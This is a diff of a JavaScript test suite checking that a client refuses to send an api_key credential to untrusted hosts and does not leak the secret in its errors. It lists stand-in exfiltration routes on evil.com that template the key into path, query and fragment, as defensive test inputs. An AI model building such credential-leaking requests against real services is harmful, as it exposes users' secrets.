@@ -37,19 +37,11 @@ describe("a parameter that is a credential", () => {
       ...["GET https://evil.com/x", "POST https://evil.com/x", "GET https://evil.com/{api_key}"],
       ...["GET https://evil.com/x{?api_key}", "GET https://evil.com/x{#api_key}"],
     ]) {
-      const error = refusal(() => call(route));
-      expect(error.code, route).to.equal("UNSAFE_URL");
-      expect(error.parameters).to.deep.equal(["api_key"]);
+      const error = refusal(() => call(route), "UNSAFE_URL", ["api_key"]);
+      expect(error).to.not.have.property("header");
       expect(error.message).to.not.contain("hunter2");
     }
     refusal(() => call("/x", { baseUrl: "https://evil.com" }), "UNSAFE_URL");
-  });
-
-  it("is named among the parameters of the error, and a header as its header", () => {
-    const error = refusal(() => call("GET https://evil.com/x"));
-    expect(error)
-      .to.deep.include({ parameters: ["api_key"] })
-      .and.to.not.have.property("header");
     const headers = { authorization: "hunter2" };
     const other = refusal(() => call("GET https://evil.com/x", { api_key: null, headers }));
     expect(other).to.include({ header: "authorization" }).and.to.not.have.property("parameters");
